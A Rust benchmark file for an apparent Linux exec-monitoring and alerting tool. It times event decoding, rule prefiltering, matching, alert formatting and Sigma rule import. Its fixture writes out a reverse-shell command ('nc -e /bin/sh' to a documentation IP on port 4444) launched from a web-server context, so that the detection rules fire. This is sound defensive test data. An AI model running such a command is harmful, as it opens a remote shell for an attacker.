//! Micro-benchmarks of the pure stages: decode, prefilter, match, format.
//!
//! `cargo bench --bench stages`

#![allow(missing_docs, reason = "a benchmark has no users of its items")]
#![allow(clippy::unwrap_used, clippy::expect_used, reason = "a benchmark that cannot be set up shall end")]

use std::path::Path;
use std::sync::Arc;

use divan::{Bencher, black_box};
use execwatch::alert::{Clock, Host, Record, ecs, text};
use execwatch::calendar::LocalTime;
use execwatch::connector::wire;
use execwatch::diagnostics::{Diagnostics, Source};
use execwatch::evaluate::Evaluator;
use execwatch::process::capture::Prefilter;
use execwatch::process::details::Namespaces;
use execwatch::process::exec::{Exec, Image};
use execwatch::process::names::Accounts;
use execwatch::process::relatives::NoProcesses;
use execwatch::rules::catalogue::Hints;
use execwatch::rules::load::{Places, load};
use execwatch::rules::ruleset::RuleSet;
use execwatch::rules::sigma;
use execwatch::rules::subject::Surroundings;

fn main() {
    divan::main();
}

/// An exec event as a kernel of today sends it: 76 bytes.
fn exec_event() -> Vec<u8> {
    let mut bytes = Vec::new();
    bytes.extend(76u32.to_ne_bytes());
    bytes.extend(3u16.to_ne_bytes());
    bytes.extend([0; 10]);
    for word in [wire::INDEX, wire::VALUE, 1, 0] {
        bytes.extend(word.to_ne_bytes());
    }
    bytes.extend(40u16.to_ne_bytes());
    bytes.extend([0; 2]);
    for word in [wire::what::EXEC, 1, 2, 3, 4242, 4242, 0, 0, 0, 0] {
        bytes.extend(word.to_ne_bytes());
    }
    bytes
}

fn shipped_rules() -> RuleSet {
    let places = Places { builtin: true, folders: Vec::new(), folders_required: false };
    load(&places, &Diagnostics::default()).expect("the shipped rules load")
}

/// The shipped rules and 62 that were translated from Sigma.
fn with_imported_rules() -> RuleSet {
    let folder = tempfile::tempdir().expect("a folder for the rules");
    let sigma = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/data/sigma");
    for entry in std::fs::read_dir(sigma).expect("the folder of Sigma rules") {
        let path = entry.expect("a file").path();
        if path.extension().is_some_and(|extension| extension == "yml") {
            let text = std::fs::read_to_string(&path).expect("a Sigma rule");
            let import = sigma::import(&Source { name: path.display().to_string(), text });
            for rule in import.rules {
                std::fs::write(folder.path().join(format!("{}.toml", rule.id)), rule.toml).expect("a rule");
            }
        }
    }
    let places = Places { builtin: true, folders: vec![folder.path().to_owned()], folders_required: true };
    load(&places, &Diagnostics::default()).expect("the imported rules load")
}

fn image(exe: &str, argv: &[&str]) -> Image {
    Image::new(Some(exe.as_bytes()), Some(argv))
}

fn common() -> Image {
    image("/usr/bin/sed", &["sed", "-n", "s/a/b/p", "/etc/hosts"])
}

fn netcat() -> Exec {
    let mut exec = Exec { pid: 4242, ..Exec::default() };
    exec.image = image("/usr/bin/nc.traditional", &["nc", "-e", "/bin/sh", "203.0.113.5", "4444"]);
    exec.details.uids = Some([33; 4]);
    exec.details.gids = Some([33; 4]);
    exec.details.ppid = Some(4000);
    exec.details.session = Some(4000);
    exec.details.tty = Some(0);
    exec.details.start_ticks = Some(100_000);
    exec.details.set_cwd(b"/var/www/html");
    exec.details.set_cgroup(b"0::/system.slice/apache2.service\n");
    exec.details.parent = image("/usr/bin/dash", &["sh", "-c", "nc -e /bin/sh 203.0.113.5 4444"]);
    exec
}

struct Stopped;

impl Clock for Stopped {
    fn wall_from_monotonic(&self, stamp_ns: u64) -> u64 {
        stamp_ns
    }

    fn wall_from_start_ticks(&self, ticks: u64) -> u64 {
        ticks
    }

    fn local(&self, _: u64) -> Option<LocalTime> {
        Some(LocalTime::default())
    }
}

fn evaluator() -> Evaluator {
    Evaluator::new(Arc::new(shipped_rules()))
}

fn surroundings() -> Surroundings {
    Surroundings {
        accounts: Accounts::default(),
        namespaces: Namespaces::default(),
        processes: Box::new(NoProcesses),
        files: Arc::default(),
    }
}

fn record() -> Record {
    let alert = evaluator().evaluate(&netcat(), &surroundings(), &Stopped).alert.expect("a rule matches");
    Record::Alert(Box::new(alert))
}

#[divan::bench]
fn decode(bencher: Bencher) {
    let event = exec_event();
    bencher.bench(|| wire::messages(black_box(&event)).next().unwrap().unwrap());
}

#[divan::bench]
fn prefilter_of_a_common_program(bencher: Bencher) {
    let (rules, image) = (shipped_rules(), common());
    assert!(!rules.could_match(&image, Hints::default()));
    bencher.bench(|| rules.could_match(black_box(&image), Hints::default()));
}

#[divan::bench]
fn prefilter_of_a_shell_command(bencher: Bencher) {
    let (rules, image) =
        (shipped_rules(), image("/usr/bin/dash", &["sh", "-c", "run-parts /etc/cron.hourly"]));
    bencher.bench(|| rules.could_match(black_box(&image), Hints::default()));
}

#[divan::bench]
fn prefilter_of_a_utility(bencher: Bencher) {
    let (rules, exec) = (shipped_rules(), netcat());
    assert!(rules.could_match(&exec.image, Hints::default()));
    bencher.bench(|| rules.could_match(black_box(&exec.image), Hints::default()));
}

#[divan::bench(args = ["sed -n s/a/b/p /etc/hosts", "grep -rw x .", "sh -c run-parts /etc/cron.hourly", "make"])]
fn prefilter_with_imported_rules(bencher: Bencher, line: &str) {
    let argv: Vec<&str> = line.split(' ').collect();
    let (rules, image) = (with_imported_rules(), image(&format!("/usr/bin/{}", argv[0]), &argv));
    bencher.bench(|| rules.could_match(black_box(&image), Hints::default()));
}

#[divan::bench(args = ["sed -n s/a/b/p /etc/hosts", "grep -rw x .", "sh -c run-parts /etc/cron.hourly", "make"])]
fn prefilter_with_shipped_rules(bencher: Bencher, line: &str) {
    let argv: Vec<&str> = line.split(' ').collect();
    let (rules, image) = (shipped_rules(), image(&format!("/usr/bin/{}", argv[0]), &argv));
    bencher.bench(|| rules.could_match(black_box(&image), Hints::default()));
}

#[divan::bench]
fn match_of_a_utility(bencher: Bencher) {
    let (mut evaluator, exec, surroundings) = (evaluator(), netcat(), surroundings());
    bencher.bench_local(|| evaluator.evaluate(black_box(&exec), &surroundings, &Stopped));
}

#[divan::bench]
fn format_as_text(bencher: Bencher) {
    let record = record();
    bencher.bench(|| text::line(black_box(&record), None));
}

#[divan::bench]
fn format_as_json(bencher: Bencher) {
    let (record, host) = (record(), Host { name: "host".into(), ..Host::default() });
    bencher.bench(|| ecs::line(black_box(&record), None, &host));
}

#[divan::bench]
fn import_a_sigma_rule(bencher: Bencher) {
    let path = "tests/data/sigma/proc_creation_lnx_susp_sensitive_file_access.yml";
    let path = Path::new(env!("CARGO_MANIFEST_DIR")).join(path);
    let source = Source { name: "x".into(), text: std::fs::read_to_string(path).expect("a Sigma rule") };
    bencher.bench(|| sigma::import(black_box(&source)));
}

#[divan::bench]
fn load_the_shipped_rules() -> RuleSet {
    shipped_rules()
}
